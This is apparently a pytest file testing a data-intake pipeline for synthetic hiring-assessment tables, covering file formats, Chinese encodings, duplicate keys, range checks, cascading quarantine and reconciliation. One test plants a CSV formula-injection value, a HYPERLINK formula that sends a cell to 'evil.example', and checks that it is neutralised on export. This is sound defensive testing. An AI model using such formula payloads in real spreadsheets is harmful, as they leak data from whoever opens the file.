"""Intake: contracts, readers, validation and quarantine, exercised on real (corrupted) files on disk.

A small valid cohort is generated once per session; every test copies it to its own ``tmp_path`` and damages the
copy with pandas or plain file writes, then runs the real ``resolve_sources`` → ``run_intake`` path.
"""

from __future__ import annotations

import random
import shutil
from pathlib import Path

import pandas as pd
import pytest

from workbench.errors import DataError, IntakeError
from workbench.intake import QUARANTINE_COLUMNS, TABLE_ORDER, TABLES, resolve_sources, run_intake
from workbench.intake.contracts import OPTIONAL_TABLES
from workbench.synth import generate_cohort, scenario_config

N_CANDIDATES = 120
EMPLOYEES_PER_ROLE = 15


# --------------------------------------------------------------------------------------------------------------------
# fixtures and helpers
# --------------------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="session")
def cohort_dir(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("cohort") / "fair-11"
    generate_cohort(
        scenario_config("fair", seed=11, n_candidates=N_CANDIDATES, employees_per_role=EMPLOYEES_PER_ROLE), out, fmt="csv"
    )
    return out


@pytest.fixture(scope="session")
def clean_result(cohort_dir):
    return run_intake(resolve_sources(cohort_dir))


@pytest.fixture
def data(cohort_dir, tmp_path) -> Path:
    """A private copy of the six intake tables (no ground truth) to corrupt."""
    out = tmp_path / "data"
    out.mkdir()
    for name in TABLE_ORDER:
        shutil.copy2(cohort_dir / f"{name}.csv", out / f"{name}.csv")
    return out


def read(d: Path, table: str) -> pd.DataFrame:
    """A table exactly as text (empty cells stay empty strings), so writing it back changes nothing else."""
    return pd.read_csv(d / f"{table}.csv", dtype=str, keep_default_na=False, encoding="utf-8")


def write(d: Path, table: str, frame: pd.DataFrame) -> Path:
    path = d / f"{table}.csv"
    frame.to_csv(path, index=False, encoding="utf-8", lineterminator="\n")
    return path


def row_of(position: int) -> int:
    """File row number of the record at 0-based ``position`` (header is row 1)."""
    return position + 2


def intake(d: Path, overrides: dict[str, str] | None = None):
    return run_intake(resolve_sources(d, overrides))


def problems(result, table: str) -> list[tuple[int, str, str]]:
    q = result.results[table].quarantine
    return sorted((int(r), c, code) for r, c, code in zip(q["row"], q["column"], q["reason_code"]))


def assert_reconciled(result) -> pd.DataFrame:
    counts = result.counts().set_index("table")
    assert list(counts.index)[: len(TABLE_ORDER)] == list(TABLE_ORDER)  # required tables first, in dependency order
    assert set(counts.index) - set(TABLE_ORDER) <= set(OPTIONAL_TABLES)  # then the optional ones the folder holds
    assert (counts["rows_in"] == counts["accepted"] + counts["quarantined"]).all(), counts
    assert counts["reconciled"].all()
    assert result.reconciled
    return counts


def assert_clean_except(result, *tables: str) -> None:
    for name in TABLE_ORDER:
        if name not in tables:
            assert problems(result, name) == [], name


def rows_where(frame: pd.DataFrame, column: str, values) -> list[int]:
    values = set(values)
    return [row_of(i) for i, v in enumerate(frame[column]) if v in values]


def expect_intake_error(d: Path, overrides=None) -> IntakeError:
    with pytest.raises(IntakeError) as info:
        intake(d, overrides)
    assert isinstance(info.value, DataError)
    return info.value


# --------------------------------------------------------------------------------------------------------------------
# 1. clean cohort
# --------------------------------------------------------------------------------------------------------------------


def test_clean_cohort_has_no_quarantine_and_reconciles(cohort_dir, clean_result):
    counts = assert_reconciled(clean_result)
    assert len(clean_result.quarantine) == 0
    assert list(clean_result.quarantine.columns) == QUARANTINE_COLUMNS
    assert (counts["quarantined"] == 0).all()
    for name in TABLE_ORDER:
        on_disk = read(cohort_dir, name)
        assert counts.loc[name, "rows_in"] == len(on_disk) > 0, name
        assert counts.loc[name, "accepted"] == len(on_disk), name
        assert counts.loc[name, "source_file"] == str(cohort_dir / f"{name}.csv")
        assert counts.loc[name, "format"] == "csv"
        assert counts.loc[name, "encoding"] == "utf-8"
        assert counts.loc[name, "extra_columns"] == ""
    assert counts.loc["candidates", "rows_in"] == N_CANDIDATES
    n_roles = len(clean_result.dictionary.roles)
    assert counts.loc["employees", "rows_in"] == EMPLOYEES_PER_ROLE * n_roles
    ratings = clean_result.tables["ratings"]
    assert str(ratings["rating"].dtype) == "Int64"
    assert ratings["rating"].between(1, 5).all()
    assert str(clean_result.tables["employees"]["tenure_years"].dtype) == "Float64"


def test_saved_counts_and_accepted_tables(clean_result, tmp_path):
    written = clean_result.save(tmp_path / "out")
    for name in TABLE_ORDER:
        back = pd.read_parquet(written[name])
        assert len(back) == len(clean_result.tables[name])
    counts = pd.read_csv(written["counts"], encoding="utf-8-sig")
    assert counts["rows_in"].tolist() == clean_result.counts()["rows_in"].tolist()
    quarantine = pd.read_csv(written["quarantine"], encoding="utf-8-sig")
    assert list(quarantine.columns) == QUARANTINE_COLUMNS and len(quarantine) == 0


# --------------------------------------------------------------------------------------------------------------------
# 2. missing files
# --------------------------------------------------------------------------------------------------------------------


def test_table_without_any_file_names_the_table(data):
    (data / "answers.csv").unlink()
    err = expect_intake_error(data)
    msg = str(err)
    assert "[answers]" in msg and "answers" in msg
    for tried in ("answers.csv", "answers.xlsx", "answers.parquet"):
        assert tried in msg
    assert str(data) in msg
    assert err.file == str(data / "answers.csv")
    assert err.column is None


def test_file_missing_at_read_time_names_the_file(data):
    sources = resolve_sources(data)
    sources["ratings"].unlink()
    with pytest.raises(IntakeError) as info:
        run_intake(sources)
    path = str(data / "ratings.csv")
    assert info.value.file == path
    assert path in str(info.value)
    assert "[ratings]" in str(info.value)


def test_override_pointing_at_missing_file(data, tmp_path):
    missing = tmp_path / "elsewhere" / "my_candidates.csv"
    err = expect_intake_error(data, {"candidates": str(missing)})
    assert err.file == str(missing)
    assert str(missing) in str(err)


def test_unknown_table_in_overrides(data):
    err = expect_intake_error(data, {"candidatez": str(data / "candidates.csv")})
    assert "candidatez" in str(err)


def test_two_candidate_files_for_one_table_is_ambiguous(data):
    read(data, "questions").to_parquet(data / "questions.parquet", index=False)
    err = expect_intake_error(data)
    assert "[questions]" in str(err)
    assert "questions.csv" in str(err) and "questions.parquet" in str(err)


def test_unsupported_suffix_and_directory(data):
    txt = data / "candidates.txt"
    shutil.copy2(data / "candidates.csv", txt)
    err = expect_intake_error(data, {"candidates": str(txt)})
    assert err.file == str(txt) and str(txt) in str(err) and ".txt" in str(err)

    folder = data / "ratings_dir.csv"
    folder.mkdir()
    err = expect_intake_error(data, {"ratings": str(folder)})
    assert err.file == str(folder) and str(folder) in str(err)


# --------------------------------------------------------------------------------------------------------------------
# 3. unreadable files
# --------------------------------------------------------------------------------------------------------------------


def _garbage(n: int = 4096, seed: int = 0) -> bytes:
    return random.Random(seed).randbytes(n)


def _truncated_real(fmt: str, d: Path) -> bytes:
    frame = read(d, "candidates")
    tmp = d.parent / f"whole.{fmt}"
    frame.to_excel(tmp, index=False) if fmt == "xlsx" else frame.to_parquet(tmp, index=False)
    blob = tmp.read_bytes()
    tmp.unlink()
    return blob[: len(blob) // 2]


UNREADABLE = {
    "csv_with_nul_bytes": ("csv", lambda d: b"candidate_id,role_id\nC1,teller\x00\x00\x01\x02" + _garbage(1000, 1)),
    "csv_binary_garbage": ("csv", lambda d: b"\x00" + _garbage(4096, 2)),
    "empty_csv": ("csv", lambda d: b""),
    "whitespace_only_csv": ("csv", lambda d: b" \r\n\n\t\n"),
    "xlsx_random_bytes": ("xlsx", lambda d: _garbage(4096, 3)),
    "xlsx_that_is_really_csv": ("xlsx", lambda d: (d / "candidates.csv").read_bytes()),
    "xlsx_truncated": ("xlsx", lambda d: _truncated_real("xlsx", d)),
    "parquet_random_bytes": ("parquet", lambda d: _garbage(4096, 4)),
    "parquet_truncated": ("parquet", lambda d: _truncated_real("parquet", d)),
    "parquet_empty": ("parquet", lambda d: b""),
}


@pytest.mark.parametrize("case", sorted(UNREADABLE))
def test_unreadable_file_raises_naming_the_file(data, case):
    suffix, make = UNREADABLE[case]
    blob = make(data)
    (data / "candidates.csv").unlink()
    path = data / f"candidates.{suffix}"
    path.write_bytes(blob)
    err = expect_intake_error(data)
    assert err.file == str(path)
    assert str(path) in str(err)
    assert "[candidates]" in str(err)
    assert err.column is None
    expected_code = {"csv_with_nul_bytes": "not_text", "csv_binary_garbage": "not_text", "empty_csv": "empty_file",
                     "whitespace_only_csv": "empty_file", "parquet_empty": "unreadable"}.get(case, "unreadable")
    assert err.code == expected_code, (case, err.code, str(err))


# --------------------------------------------------------------------------------------------------------------------
# 4. missing required columns
# --------------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "table, columns",
    [
        ("ratings", ["rating"]),
        ("candidates", ["role_id"]),
        ("answers", ["status"]),
        ("questions", ["text"]),
        ("employees", ["performance_score", "tenure_years"]),
    ],
)
def test_missing_required_column_raises_naming_file_and_column(data, table, columns):
    frame = read(data, table)
    path = write(data, table, frame.drop(columns=columns))
    err = expect_intake_error(data)
    first_missing = next(c for c in TABLES[table].required_columns if c in columns)
    assert err.column == first_missing
    assert err.file == str(path)
    msg = str(err)
    assert str(path) in msg
    assert f"[{table}]" in msg
    for col in columns:
        assert col in msg


def test_optional_columns_may_be_absent_and_headers_are_trimmed(data):
    write(data, "questions", read(data, "questions").drop(columns=["indicator_id", "rubric"]))
    ratings = read(data, "ratings")
    write(data, "ratings", ratings.rename(columns={"rating": "  rating ", "rater_id": "rater_id\t"}).assign(note="x"))
    result = intake(data)
    counts = assert_reconciled(result)
    assert len(result.quarantine) == 0
    assert counts.loc["questions", "accepted"] == len(read(data, "questions"))
    assert "indicator_id" not in result.tables["questions"].columns
    assert counts.loc["ratings", "accepted"] == len(ratings)
    assert counts.loc["ratings", "extra_columns"] == "note"


# --------------------------------------------------------------------------------------------------------------------
# 5. duplicate keys
# --------------------------------------------------------------------------------------------------------------------


def test_duplicate_candidates_quarantined_first_kept(data):
    cand = read(data, "candidates")
    dup_a = cand.iloc[[5]].assign(name="重复甲")
    dup_b = cand.iloc[[30]].assign(name="重复乙", site="别处")
    corrupted = pd.concat([cand.iloc[:10], dup_a, cand.iloc[10:], dup_b], ignore_index=True)
    write(data, "candidates", corrupted)
    # positions in the new file: original 5 → 5, dup_a → 10, original 30 → 31, dup_b → last
    result = intake(data)
    assert problems(result, "candidates") == [
        (row_of(10), "candidate_id", "duplicate_key"),
        (row_of(len(corrupted) - 1), "candidate_id", "duplicate_key"),
    ]
    q = result.results["candidates"].quarantine
    assert q["value"].tolist() == [cand.at[5, "candidate_id"], cand.at[30, "candidate_id"]]
    assert f"第 {row_of(5)} 行" in q["reason"].iloc[0]
    assert f"第 {row_of(31)} 行" in q["reason"].iloc[1]
    counts = assert_reconciled(result)
    assert counts.loc["candidates", ["rows_in", "accepted", "quarantined"]].tolist() == [122, 120, 2]
    accepted = result.tables["candidates"].set_index("candidate_id")
    assert accepted.index.is_unique
    assert accepted.at[cand.at[5, "candidate_id"], "name"] == cand.at[5, "name"]
    assert accepted.at[cand.at[30, "candidate_id"], "site"] == cand.at[30, "site"]
    # the kept candidate is still a valid parent: nothing downstream is lost
    assert_clean_except(result, "candidates")


def test_duplicate_composite_key_in_ratings(data):
    ratings = read(data, "ratings")
    first = ratings.iloc[0]
    other_answer = ratings.loc[ratings["answer_id"] != first["answer_id"], "answer_id"].iloc[0]
    changed = "1" if first["rating"] != "1" else "5"
    extra = pd.DataFrame(
        [
            {"answer_id": first["answer_id"], "rater_id": first["rater_id"], "rating": changed},  # same (answer, rater)
            {"answer_id": first["answer_id"], "rater_id": "R-extra-99", "rating": "4"},  # same answer, new rater
            {"answer_id": other_answer, "rater_id": "R-extra-99", "rating": "2"},  # same new rater, other answer
        ]
    )
    corrupted = pd.concat([ratings, extra], ignore_index=True)
    write(data, "ratings", corrupted)
    result = intake(data)
    assert problems(result, "ratings") == [(row_of(len(ratings)), "answer_id", "duplicate_key")]
    q = result.results["ratings"].quarantine
    assert q["value"].tolist() == [first["answer_id"]]
    assert f"第 {row_of(0)} 行" in q["reason"].iloc[0]
    counts = assert_reconciled(result)
    assert counts.loc["ratings", ["rows_in", "accepted", "quarantined"]].tolist() == [len(ratings) + 3, len(ratings) + 2, 1]
    kept = result.tables["ratings"]
    same = kept[(kept["answer_id"] == first["answer_id"]) & (kept["rater_id"] == first["rater_id"])]
    assert same["rating"].tolist() == [int(first["rating"])]
    assert (kept["rater_id"] == "R-extra-99").sum() == 2
    assert_clean_except(result, "ratings")


# --------------------------------------------------------------------------------------------------------------------
# 6. out-of-range and non-integer values
# --------------------------------------------------------------------------------------------------------------------


def test_out_of_range_and_non_integer_ratings(data):
    ratings = read(data, "ratings")
    bad = {0: "0", 1: "6", 2: "3.5", 3: "abc", 4: "", 5: "-1"}
    good = {6: "1", 7: "5", 8: " 4 ", 9: "3.0"}
    for pos, value in {**bad, **good}.items():
        ratings.at[pos, "rating"] = value
    write(data, "ratings", ratings)
    comp = read(data, "employee_competencies")
    comp.at[10, "rating"] = "7"
    comp.at[11, "rating"] = "2.5"
    write(data, "employee_competencies", comp)

    result = intake(data)
    assert problems(result, "ratings") == [
        (2, "rating", "out_of_range"),
        (3, "rating", "out_of_range"),
        (4, "rating", "not_integer"),
        (5, "rating", "not_integer"),
        (6, "rating", "missing_value"),
        (7, "rating", "out_of_range"),
    ]
    q = result.results["ratings"].quarantine
    assert q["value"].tolist() == ["0", "6", "3.5", "abc", "", "-1"]
    assert problems(result, "employee_competencies") == [
        (row_of(10), "rating", "out_of_range"),
        (row_of(11), "rating", "not_integer"),
    ]
    counts = assert_reconciled(result)
    assert counts.loc["ratings", "quarantined"] == len(bad)
    accepted = result.tables["ratings"]
    assert accepted["rating"].iloc[:4].tolist() == [1, 5, 4, 3]
    assert_clean_except(result, "ratings", "employee_competencies")


def test_employee_ranges_and_cascade_to_competencies(data):
    emp = read(data, "employees")
    emp.at[0, "performance_score"] = "100.5"
    emp.at[1, "tenure_years"] = "十年"
    emp.at[2, "performance_grade"] = "0"
    write(data, "employees", emp)
    result = intake(data)
    assert problems(result, "employees") == [
        (2, "performance_score", "out_of_range"),
        (3, "tenure_years", "not_number"),
        (4, "performance_grade", "out_of_range"),
    ]
    comp = read(data, "employee_competencies")
    orphan_rows = rows_where(comp, "employee_id", emp["employee_id"].iloc[:3])
    assert orphan_rows
    assert problems(result, "employee_competencies") == [(r, "employee_id", "unknown_reference") for r in orphan_rows]
    counts = assert_reconciled(result)
    assert counts.loc["employees", "accepted"] == len(emp) - 3
    assert counts.loc["employee_competencies", "accepted"] == len(comp) - len(orphan_rows)


# --------------------------------------------------------------------------------------------------------------------
# 7. empty answers
# --------------------------------------------------------------------------------------------------------------------


def test_empty_answer_text_only_matters_when_answered(data):
    answers = read(data, "answers")
    answered = answers.index[answers["status"] == "answered"].tolist()
    multiline, empty, blank, silent = answered[0], answered[4], answered[9], answered[15]
    answers.at[multiline, "answer_text"] = "第一段。\n第二段，\"引号\"，逗号。"  # quoted multi-line cell: still one row
    answers.at[empty, "answer_text"] = ""
    answers.at[blank, "answer_text"] = " \t\u3000 "
    answers.at[silent, "status"] = "no_response"
    answers.at[silent, "answer_text"] = ""
    no_response = answers.index[answers["status"] == "no_response"].tolist()
    assert len(no_response) >= 2 and (answers.loc[no_response, "answer_text"] == "").all()
    write(data, "answers", answers)

    result = intake(data)
    assert problems(result, "answers") == [
        (row_of(empty), "answer_text", "empty_answer"),
        (row_of(blank), "answer_text", "empty_answer"),
    ]
    q = result.results["answers"].quarantine
    assert q["value"].tolist() == ["", " \t\u3000 "]
    accepted = result.tables["answers"].set_index("answer_id")
    assert set(answers.loc[no_response, "answer_id"]) <= set(accepted.index)
    assert accepted.at[answers.at[multiline, "answer_id"], "answer_text"].startswith("第一段。\n第二段")
    # their ratings lose their parent
    ratings = read(data, "ratings")
    orphan = rows_where(ratings, "answer_id", answers.loc[[empty, blank], "answer_id"])
    assert len(orphan) == 4
    assert problems(result, "ratings") == [(r, "answer_id", "unknown_reference") for r in orphan]
    counts = assert_reconciled(result)
    assert counts.loc["answers", ["accepted", "quarantined"]].tolist() == [len(answers) - 2, 2]
    assert_clean_except(result, "answers", "ratings")


# --------------------------------------------------------------------------------------------------------------------
# 8. references and cross-table consistency
# --------------------------------------------------------------------------------------------------------------------


def test_unknown_role_in_candidates(data):
    cand = read(data, "candidates")
    cand.at[7, "role_id"] = "space_cowboy"
    write(data, "candidates", cand)
    result = intake(data)
    assert problems(result, "candidates") == [(row_of(7), "role_id", "unknown_reference")]
    assert "space_cowboy" in result.results["candidates"].quarantine["reason"].iloc[0]
    answers = read(data, "answers")
    orphan = rows_where(answers, "candidate_id", [cand.at[7, "candidate_id"]])
    assert orphan
    assert problems(result, "answers") == [(r, "candidate_id", "unknown_reference") for r in orphan]
    assert_reconciled(result)


def test_unknown_question_in_answers(data):
    answers = read(data, "answers")
    answers.at[3, "question_id"] = "teller.no_such_competency.q9"
    write(data, "answers", answers)
    result = intake(data)
    assert problems(result, "answers") == [(row_of(3), "question_id", "unknown_reference")]
    ratings = read(data, "ratings")
    orphan = rows_where(ratings, "answer_id", [answers.at[3, "answer_id"]])
    assert len(orphan) == 2
    assert problems(result, "ratings") == [(r, "answer_id", "unknown_reference") for r in orphan]
    assert_clean_except(result, "answers", "ratings")
    assert_reconciled(result)


def test_unknown_and_misplaced_competency_in_questions(data, clean_result):
    dictionary = clean_result.dictionary
    questions = read(data, "questions")
    unknown_pos, foreign_pos = 0, 5
    role = questions.at[foreign_pos, "role_id"]
    foreign = next(c for c in dictionary.competencies if c not in dictionary.roles[role].competency_ids)
    questions.at[unknown_pos, "competency_id"] = "telepathy"
    questions.at[foreign_pos, "competency_id"] = foreign
    write(data, "questions", questions)
    result = intake(data)
    assert problems(result, "questions") == [
        (row_of(unknown_pos), "competency_id", "unknown_reference"),
        (row_of(foreign_pos), "competency_id", "inconsistent"),
    ]
    answers = read(data, "answers")
    lost = questions.loc[[unknown_pos, foreign_pos], "question_id"]
    orphan = rows_where(answers, "question_id", lost)
    assert problems(result, "answers") == [(r, "question_id", "unknown_reference") for r in orphan]
    assert_reconciled(result)


def test_answer_to_another_roles_question_is_inconsistent(data):
    answers = read(data, "answers")
    cand = read(data, "candidates").set_index("candidate_id")["role_id"]
    questions = read(data, "questions")
    pos = 20
    own_role = cand[answers.at[pos, "candidate_id"]]
    other_q = questions.loc[questions["role_id"] != own_role, "question_id"].iloc[0]
    answers.at[pos, "question_id"] = other_q
    write(data, "answers", answers)
    result = intake(data)
    assert problems(result, "answers") == [(row_of(pos), "question_id", "inconsistent")]
    q = result.results["answers"].quarantine
    assert q["value"].tolist() == [other_q]
    assert own_role in q["reason"].iloc[0]
    ratings = read(data, "ratings")
    orphan = rows_where(ratings, "answer_id", [answers.at[pos, "answer_id"]])
    assert problems(result, "ratings") == [(r, "answer_id", "unknown_reference") for r in orphan]
    assert_reconciled(result)


# --------------------------------------------------------------------------------------------------------------------
# 9. cascade
# --------------------------------------------------------------------------------------------------------------------


def test_quarantined_candidate_cascades_and_counts_reconcile(data, clean_result):
    cand = read(data, "candidates")
    pos = 12
    cand.at[pos, "gender"] = "M"
    write(data, "candidates", cand)
    result = intake(data)
    cid = cand.at[pos, "candidate_id"]
    assert problems(result, "candidates") == [(row_of(pos), "gender", "not_allowed")]
    assert result.results["candidates"].quarantine["value"].tolist() == ["M"]

    answers = read(data, "answers")
    lost_answers = answers.loc[answers["candidate_id"] == cid, "answer_id"]
    assert len(lost_answers) > 0
    assert problems(result, "answers") == [
        (r, "candidate_id", "unknown_reference") for r in rows_where(answers, "candidate_id", [cid])
    ]
    ratings = read(data, "ratings")
    lost_ratings = rows_where(ratings, "answer_id", lost_answers)
    assert len(lost_ratings) == 2 * len(lost_answers)
    assert problems(result, "ratings") == [(r, "answer_id", "unknown_reference") for r in lost_ratings]

    counts = assert_reconciled(result)
    clean = clean_result.counts().set_index("table")
    assert (counts["rows_in"] == clean["rows_in"].reindex(counts.index)).all()
    assert counts.loc["candidates", "quarantined"] == 1
    assert counts.loc["answers", "quarantined"] == len(lost_answers)
    assert counts.loc["ratings", "quarantined"] == len(lost_ratings)
    assert cid not in set(result.tables["candidates"]["candidate_id"])
    assert not result.tables["answers"]["candidate_id"].eq(cid).any()
    assert_clean_except(result, "candidates", "answers", "ratings")


# --------------------------------------------------------------------------------------------------------------------
# 10. encodings
# --------------------------------------------------------------------------------------------------------------------

def _encodable(text: str, encoding: str) -> bool:
    try:
        text.encode(encoding)
    except UnicodeEncodeError:
        return False
    return True


ENCODINGS = {"utf-8": "utf-8", "utf-8-sig": "utf-8-sig", "gb18030": "gb18030", "gbk": "gb18030"}


def test_chinese_csv_in_any_common_encoding(data, clean_result, tmp_path):
    cand = read(data, "candidates")
    assert cand["name"].str.contains(r"[\u4e00-\u9fff]").all()
    # GBK lacks some rare name characters the generator uses (e.g. 䶮); keep the frame encodable in all four
    gbk_safe = cand["name"].map(lambda v: _encodable(v, "gbk"))
    assert gbk_safe.sum() >= N_CANDIDATES - 10
    cand.loc[~gbk_safe, "name"] = "王小明"
    accepted = {}
    for written_as, detected in ENCODINGS.items():
        path = tmp_path / written_as / "candidates.csv"
        path.parent.mkdir()
        cand.to_csv(path, index=False, encoding=written_as, lineterminator="\r\n")
        raw = path.read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf") == (written_as == "utf-8-sig")
        result = intake(data, {"candidates": str(path)})
        assert len(result.quarantine) == 0, written_as
        counts = assert_reconciled(result)
        assert counts.loc["candidates", "encoding"] == detected, written_as
        assert counts.loc["candidates", "source_file"] == str(path)
        assert counts.loc["candidates", "accepted"] == N_CANDIDATES
        accepted[written_as] = result.tables["candidates"]
    reference = clean_result.tables["candidates"]
    for written_as, frame in accepted.items():
        pd.testing.assert_frame_equal(frame, accepted["utf-8"], obj=written_as)
        pd.testing.assert_frame_equal(frame.drop(columns="name"), reference.drop(columns="name"), obj=written_as)
        assert frame["name"].tolist() == cand["name"].tolist()
    assert list(accepted["utf-8-sig"].columns)[0] == "candidate_id"
    assert accepted["gbk"].at[0, "name"] == cand.at[0, "name"]


def test_gb18030_only_characters(data):
    cand = read(data, "candidates")
    cand.at[0, "name"] = "李𠮷䶮"  # outside GBK: four-byte GB18030 sequences
    path = data / "candidates.csv"
    cand.to_csv(path, index=False, encoding="gb18030")
    with pytest.raises(UnicodeEncodeError):
        "𠮷".encode("gbk")
    result = intake(data)
    assert result.counts().set_index("table").at["candidates", "encoding"] == "gb18030"
    assert result.tables["candidates"].at[0, "name"] == "李𠮷䶮"
    assert len(result.quarantine) == 0


# --------------------------------------------------------------------------------------------------------------------
# 11. XLSX and Parquet
# --------------------------------------------------------------------------------------------------------------------


def test_xlsx_and_parquet_inputs_match_csv(data, clean_result):
    as_xlsx = ("candidates", "employees")
    as_parquet = ("employee_competencies", "answers", "ratings")
    for name in as_xlsx + as_parquet:
        path = data / f"{name}.csv"
        frame = pd.read_csv(path)  # let pandas infer numbers, so typed cells reach the reader
        path.unlink()
        if name in as_xlsx:
            frame.to_excel(data / f"{name}.xlsx", index=False)
        else:
            frame.to_parquet(data / f"{name}.parquet", index=False)
    result = intake(data)
    assert len(result.quarantine) == 0
    counts = assert_reconciled(result)
    for name in TABLE_ORDER:
        fmt = "xlsx" if name in as_xlsx else "parquet" if name in as_parquet else "csv"
        assert counts.loc[name, "format"] == fmt, name
        assert counts.loc[name, "source_file"] == str(data / f"{name}.{fmt}")
        assert counts.loc[name, "encoding"] == ("utf-8" if fmt == "csv" else "")
        pd.testing.assert_frame_equal(result.tables[name], clean_result.tables[name], obj=name)


def test_xlsx_problems_reported_with_sheet_row_numbers(data):
    cand = read(data, "candidates")
    cand.at[3, "gender"] = "M"
    cand.at[40, "home_province"] = "火星"
    (data / "candidates.csv").unlink()
    cand.to_excel(data / "candidates.xlsx", index=False)
    result = intake(data)
    assert problems(result, "candidates") == [
        (row_of(3), "gender", "not_allowed"),
        (row_of(40), "home_province", "not_allowed"),
    ]
    assert result.results["candidates"].source_file == str(data / "candidates.xlsx")
    assert_reconciled(result)


# --------------------------------------------------------------------------------------------------------------------
# 12. one row, several problems
# --------------------------------------------------------------------------------------------------------------------


def test_row_with_several_problems_counted_once_listed_per_problem(data):
    cand = read(data, "candidates")
    pos = 50
    cand.at[pos, "role_id"] = "ghost_role"
    cand.at[pos, "gender"] = "M"
    cand.at[pos, "age_band"] = "99岁"
    cand.at[pos, "name"] = "名" * 33
    write(data, "candidates", cand)
    result = intake(data)
    assert problems(result, "candidates") == [
        (row_of(pos), "age_band", "not_allowed"),
        (row_of(pos), "gender", "not_allowed"),
        (row_of(pos), "name", "too_long"),
        (row_of(pos), "role_id", "unknown_reference"),
    ]
    counts = assert_reconciled(result)
    assert counts.loc["candidates", ["rows_in", "accepted", "quarantined"]].tolist() == [N_CANDIDATES, N_CANDIDATES - 1, 1]
    assert result.metrics()["candidates.quarantined"] == 1
    assert len(result.results["candidates"].quarantine) == 4


def test_one_reason_per_cell_first_wins(data):
    comp = read(data, "employee_competencies")
    ghost = pd.DataFrame([{"employee_id": "E999999", "competency_id": comp.at[0, "competency_id"], "rating": "3"}] * 2)
    corrupted = pd.concat([comp, ghost], ignore_index=True)
    write(data, "employee_competencies", corrupted)
    result = intake(data)
    # the repeat is a duplicate key first; its unknown employee is not listed again for the same cell
    assert problems(result, "employee_competencies") == [
        (row_of(len(comp)), "employee_id", "unknown_reference"),
        (row_of(len(comp) + 1), "employee_id", "duplicate_key"),
    ]
    counts = assert_reconciled(result)
    assert counts.loc["employee_competencies", "quarantined"] == 2


# --------------------------------------------------------------------------------------------------------------------
# 13. formula neutralisation in the saved quarantine
# --------------------------------------------------------------------------------------------------------------------


def test_saved_quarantine_neutralises_formulas(data, tmp_path):
    link = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    cand = read(data, "candidates")
    cand.at[0, "gender"] = link
    cand.at[1, "age_band"] = "@SUM(1+1)"
    cand.at[2, "gender"] = "M"
    write(data, "candidates", cand)
    ratings = read(data, "ratings")
    pos = len(ratings) - 1  # an answer of the last candidate, untouched by the candidate problems above
    ratings.at[pos, "rating"] = "+7"
    write(data, "ratings", ratings)
    result = intake(data)
    in_memory = result.results["candidates"].quarantine
    assert in_memory["value"].tolist() == [link, "@SUM(1+1)", "M"]  # the in-memory quarantine keeps raw values

    written = result.save(tmp_path / "out")
    path = written["quarantine"]
    assert path == tmp_path / "out" / "quarantine.csv"
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    saved = pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert list(saved.columns) == QUARANTINE_COLUMNS
    cands = saved[saved["table"] == "candidates"]
    assert cands["row"].tolist() == ["2", "3", "4"]
    assert cands["value"].tolist() == ["'" + link, "'@SUM(1+1)", "M"]
    rate = saved[(saved["table"] == "ratings") & (saved["column"] == "rating")]
    assert rate[["row", "value", "reason_code"]].values.tolist() == [[str(row_of(pos)), "'+7", "out_of_range"]]
    assert not saved["value"].str.match(r"^[=+\-@]").any()


# --- regressions found while reviewing the readers ------------------------------------------------------------

from workbench.intake import read_raw_table as _read, validate_table as _validate  # noqa: E402


def test_missing_values_in_xlsx_and_parquet_are_quarantined(tmp_path):
    import pandas as pd

    frame = pd.DataFrame({"answer_id": ["A1", "A2"], "rater_id": ["R1", None], "rating": [None, 3]})
    for suffix, write in ((".xlsx", lambda p: frame.to_excel(p, index=False)), (".parquet", lambda p: frame.to_parquet(p, index=False))):
        path = tmp_path / f"ratings{suffix}"
        write(path)
        result = _validate(_read(path, table="ratings"), "ratings")
        assert result.rows_accepted == 0 and result.rows_quarantined == 2, suffix
        assert set(result.quarantine["reason_code"]) == {"missing_value"}


def test_non_finite_and_huge_numbers_are_quarantined_not_crashing(tmp_path):
    path = tmp_path / "ratings.csv"
    path.write_text("answer_id,rater_id,rating\nA1,R1,inf\nA2,R1,1e20\nA3,R1,-inf\nA4,R1,3\n", encoding="utf-8")
    result = _validate(_read(path, table="ratings"), "ratings")
    assert result.rows_accepted == 1 and result.rows_quarantined == 3 and result.reconciles
    assert set(result.quarantine["reason_code"]) == {"out_of_range"}


def test_blank_lines_keep_excel_row_numbers(tmp_path):
    path = tmp_path / "ratings.csv"
    path.write_text("answer_id,rater_id,rating\nA1,R1,3\n\nA2,R1,9\n", encoding="utf-8")
    result = _validate(_read(path, table="ratings"), "ratings")
    assert result.quarantine["row"].tolist() == [4]
    assert result.rows_in == 2 and result.reconciles


def test_record_with_extra_fields_is_quarantined_not_fatal(tmp_path):
    path = tmp_path / "ratings.csv"
    path.write_text("answer_id,rater_id,rating\nA1,R1,3\nA2,R1,4,extra\nA3,R2,5,\n", encoding="utf-8")
    result = _validate(_read(path, table="ratings"), "ratings")
    assert result.rows_in == 3 and result.rows_accepted == 2 and result.reconciles
    assert result.quarantine[["row", "reason_code"]].values.tolist() == [[3, "malformed_row"]]


def test_parquet_with_named_index_keeps_the_column(tmp_path):
    import pandas as pd

    path = tmp_path / "ratings.parquet"
    pd.DataFrame({"answer_id": ["A1"], "rater_id": ["R1"], "rating": [3]}).set_index("answer_id").to_parquet(path)
    result = _validate(_read(path, table="ratings"), "ratings")
    assert result.rows_accepted == 1


def test_utf16_and_big5_csv_are_decoded(tmp_path):
    text = "candidate_id,role_id,name\nC1,teller,王小明\n"
    for enc in ("utf-16", "big5"):
        path = tmp_path / f"candidates_{enc}.csv"
        path.write_bytes(text.encode(enc))
        raw = _read(path, table="candidates")
        assert raw.frame.loc[0, "name"] == "王小明", (enc, raw.encoding)
